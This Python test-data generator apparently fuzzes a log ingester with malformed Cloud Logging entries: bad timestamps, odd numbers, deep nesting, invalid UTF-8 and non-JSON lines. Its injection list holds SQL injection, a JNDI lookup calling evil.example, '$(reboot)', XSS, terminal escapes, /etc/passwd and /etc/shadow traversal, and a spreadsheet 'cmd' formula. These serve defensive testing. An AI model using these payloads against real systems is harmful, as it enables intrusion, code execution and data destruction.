"""Hostile lines of logs, by seed: what a program under attack, a broken shipper or a bored tester may write.

Most lines are LogEntry JSON that is wrong, huge, deep or poisoned in one way; some are no JSON at all. Each has an
insertId and a time of its own where it has any, so that sums can be told beforehand: `read` is the number of lines.
"""

import json
import random
from collections.abc import Callable, Iterator

__all__ = ["hostile_lines"]

_LONGEST = 256 * 1024
_START_S = 1_767_225_600
_DAY_S = 86_400
_UNSEEN = (
    "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x80\x9b\xad\u200b\u200e\u200f\u202a\u202e\u2066\u2069\u2028\u2029\ufeff"
    "\ufffe\U000e0041"
)
_INJECTIONS = (
    "'; drop table entries; --",
    "\" or 1=1 /* */ ; attach 'x.db'; copy entries to '/tmp/x'",
    "$1 $name ? :param {{ 7*7 }} {% include '/etc/passwd' %} ${jndi:ldap://evil.example/a} $(reboot) `reboot`",
    "<script>alert(1)</script><img src=x onerror=alert(2)></pre></td></table><!-- ]]> -->",
    "```\n</code>\n# head\n| a | b |\n|---|---|\n[x](javascript:alert(1)) ![i](http://evil.example/i) @everyone",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\\x9b6n\r\rover",
    "%s%s%s%n %d {0} {} \\x00 \\u0000 \\N{BELL}",
    "../../../../etc/passwd\x00.jpg file:///etc/shadow \\\\evil\\share",
    "=cmd|' /C calc'!A0 +1+1 @SUM(1) -2+3",
)
_TIMES = (
    "2026-01-05T25:61:61Z", "2026-02-30T00:00:00Z", "0000-00-00T00:00:00Z", "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.999999999Z", "2262-04-11T23:47:16.854775808Z", "1677-09-21T00:12:43Z", "-2026-01-05T00:00:00Z",
    "2026-01-05T08:00:60Z", "2026-01-05T08:00:00+99:99", "2026-01-05T08:00:00+14:00", "2026-01-05 08:00:00,123",
    "2026-W02-1T08:00:00Z", "1767600000", "1767600000123", "1.7676e9", "Mon, 05 Jan 2026 08:00:00 GMT", "", " ", "null",
    "\u0662\u0660\u0662\u0666-\u0660\u0661-\u0660\u0665T08:00:00Z",
    "2026-01-05T08:00:00.1234567890123Z", "2026-01-05T08:00:00", "now()", "NaN",
)  # fmt: skip
_NUMBERS = (
    "1e999", "-1e999", "NaN", "Infinity", "-Infinity", "9" * 400, "-9223372036854775809", "18446744073709551616",
    "1e-999", "0.1" + "0" * 300 + "1", "-0", "1E+5", "0x10", "01", "1_000", ".5", "5.", "\u0663",
)  # fmt: skip


def hostile_lines(count: int, *, seed: int) -> Iterator[bytes]:
    """That many lines, each with its line end; no two of one seed are equal but where doubles are the point."""
    dice = random.Random(seed)
    kinds, weights = zip(*_KINDS, strict=True)
    last = b""
    for number in range(count):
        if dice.random() < 0.01 and last:
            yield last  # sent twice
            continue
        kind: Callable[[random.Random, int], bytes] = dice.choices(kinds, weights)[0]
        last = kind(dice, number).replace(b"\n", b" ")[: _LONGEST * 4] + b"\n"
        if not last.strip():
            last = b"?\n"  # an empty line is no record
        yield last


def _entry(dice: random.Random, number: int, **more: object) -> dict[str, object]:
    second = _START_S + dice.randrange(2 * _DAY_S)
    stamp = _stamp(second, number)
    return {
        "insertId": f"h{number:x}",
        "logName": "projects/hostile/logs/run.googleapis.com%2Fstderr",
        "resource": {
            "type": "cloud_run_revision",
            "labels": {"service_name": f"svc-{dice.randrange(5)}", "revision_name": f"svc-{dice.randrange(5):05d}-abc",
                       "location": "europe-west4", "project_id": "hostile"},
        },
        "timestamp": stamp, "receiveTimestamp": stamp,
        "severity": dice.choice(("ERROR", "WARNING", "INFO", "DEFAULT", "error", "", "🔥", "CRITICAL" * 50)),
        **more,
    }  # fmt: skip


def _stamp(second: int, number: int) -> str:
    day, rest = divmod(second - _START_S, _DAY_S)
    return f"2026-01-{1 + day:02d}T{rest // 3600:02d}:{rest // 60 % 60:02d}:{rest % 60:02d}.{number % 10**9:09d}Z"


def _line(entry: dict[str, object]) -> bytes:
    return json.dumps(entry, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _plain(dice: random.Random, number: int) -> bytes:
    return _line(_entry(dice, number, textPayload=f"ERROR order {dice.randrange(10**6)} failed: {dice.random()}"))


def _injected(dice: random.Random, number: int) -> bytes:
    text = dice.choice(_INJECTIONS)
    place = dice.randrange(4)
    entry = _entry(dice, number, textPayload=text)
    if place == 1:
        entry |= {"jsonPayload": {"message": text, text: text}, "textPayload": None}
    elif place == 2:
        entry["resource"]["labels"]["service_name"] = text  # type: ignore[index] # made so above
    elif place == 3:
        entry |= {"logName": f"projects/{text}/logs/{text}", "trace": text, "spanId": text, "labels": {text: text}}
    return _line(entry)


def _unseen(dice: random.Random, number: int) -> bytes:
    text = "".join(dice.choices(_UNSEEN + "abc ", k=dice.randrange(1, 200)))
    return _line(_entry(dice, number, textPayload=text, trace=text[:10]))


def _not_utf8(dice: random.Random, number: int) -> bytes:
    line = _plain(dice, number)
    at = dice.randrange(len(line))
    return line[:at] + bytes(dice.randrange(128, 256) for _ in range(dice.randrange(1, 8))) + line[at:]


def _lone_surrogates(dice: random.Random, number: int) -> bytes:
    escape = dice.choice((r"\ud800", r"\udc00 \ud83d", r"\udfff\ud800", r"\ud83d\ud83d\ude00"))
    text = json.dumps(_entry(dice, number, textPayload="@@", labels={"k": "@@"})).replace("@@", f"lost {escape} half")
    return text.encode()


def _deep(dice: random.Random, number: int) -> bytes:
    depth = dice.choice((50, 126, 200, 1000, 5000, 20_000))
    opening, closing = dice.choice((("[", "]"), ('{"a":', "}")))
    whole = json.dumps(_entry(dice, number, jsonPayload={"message": "deep", "at": "@@"}))
    return whole.replace('"@@"', opening * depth + "1" + closing * dice.choice((depth, depth - 1))).encode()


def _wide(dice: random.Random, number: int) -> bytes:
    keys = {f"k{key}": key for key in range(dice.choice((100, 1000, 5000)))}
    return _line(_entry(dice, number, jsonPayload={"message": "wide", **keys}, labels=dict.fromkeys(keys, "x")))


def _odd_number(dice: random.Random, number: int) -> bytes:
    place = dice.choice(('"status": "@@"', '"latency": "@@s"', '"requestSize": "@@"', '"status": @@', '"latency": @@'))
    text = json.dumps(_entry(dice, number, jsonPayload={"message": "n"}))[:-1]
    return f'{text}, "httpRequest": {{{place}}}, "n": @@}}'.replace("@@", dice.choice(_NUMBERS)).encode()


def _odd_time(dice: random.Random, number: int) -> bytes:
    odd: object = dice.choice((*_TIMES, None, 1767600000, 1.7e18, [], {"seconds": "1e9"}, True))
    entry = _entry(dice, number, textPayload="when?")
    entry[dice.choice(("timestamp", "timestamp", "receiveTimestamp"))] = odd
    if dice.random() < 0.2:
        del entry["timestamp"]
    return _line(entry)


def _doubled_keys(dice: random.Random, number: int) -> bytes:
    text = _plain(dice, number).decode("utf-8", "surrogatepass")
    again = f'"timestamp": "2026-01-01T00:00:00Z", "insertId": "h{number:x}", "textPayload": 7, "": ""'
    return f"{text[:-1]}, {again}}}".encode("utf-8", "surrogatepass")


def _wrong_types(dice: random.Random, number: int) -> bytes:
    entry = _entry(dice, number, textPayload="t")
    for key in dice.sample(sorted(entry), k=dice.randrange(1, 4)):
        entry[key] = dice.choice((None, 0, -1.5, True, [], {}, [[]], [{"a": 1}], {"a": []}, "", "x" * 5000))
    return _line(entry)


def _long(dice: random.Random, number: int) -> bytes:
    return _line(_entry(dice, number, textPayload=dice.choice(("x", "ab ", "\\", '"', "🧨", "\t")) * (_LONGEST // 4)))


def _deep_trace(dice: random.Random, number: int) -> bytes:
    depth = dice.choice((5, 60, 2000))
    frames = "".join(f'  File "/app/mod{at}.py", line {at}, in f{at}\n    g({at})\n' for at in range(depth))
    chained = (
        "\n\nDuring handling of the above exception, another exception occurred:\n\n" if dice.random() < 0.5 else ""
    )
    text = f"Traceback (most recent call last):\n{frames}ValueError: {dice.choice(_INJECTIONS)}"
    return _line(_entry(dice, number, textPayload=text + (chained + text if chained else "")))


def _audit(dice: random.Random, number: int) -> bytes:
    payload: dict[str, object] = {
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog", "serviceName": "run.googleapis.com",
        "methodName": dice.choice(("google.cloud.run.v1.Services.ReplaceService", "/Services.ReplaceService", None)),
        "resourceName": dice.choice(("namespaces/p/services/s", "", None, 7, "a/" * 500)),
        "request": dice.choice((None, [], {"service": None}, {"service": {"spec": [1], "metadata": "x"}})),
        "response": dice.choice((None, {"status": []}, {"metadata": {"name": dice.choice(_INJECTIONS)}})),
    }  # fmt: skip
    name = "projects/hostile/logs/cloudaudit.googleapis.com%2Factivity"
    return _line(_entry(dice, number, protoPayload=payload, logName=name))


def _no_json(dice: random.Random, number: int) -> bytes:
    return dice.choice((
        b"{", b"}", b"null", b"[]", b"true", b'"text"', b"42", b"{} trailing", b'{"a": }', b"{'a': 1}", b"\xff\xfe{}",
        b"\x00" * 50, b"<xml/>", b"ERROR plain text line %d" % number, b"[" * 3000, b'{"insertId": "h',
        _plain(dice, number)[: dice.randrange(1, 200)], 2 * _plain(dice, number), b"\x1f\x8b\x08junk",
    ))  # fmt: skip


_KINDS: tuple[tuple[Callable[[random.Random, int], bytes], float], ...] = (
    (_plain, 40), (_injected, 10), (_unseen, 8), (_not_utf8, 5), (_lone_surrogates, 5), (_deep, 0.4), (_wide, 0.02),
    (_odd_number, 8), (_odd_time, 8), (_doubled_keys, 3), (_wrong_types, 6), (_long, 0.05), (_deep_trace, 1),
    (_audit, 3), (_no_json, 4),
)  # fmt: skip
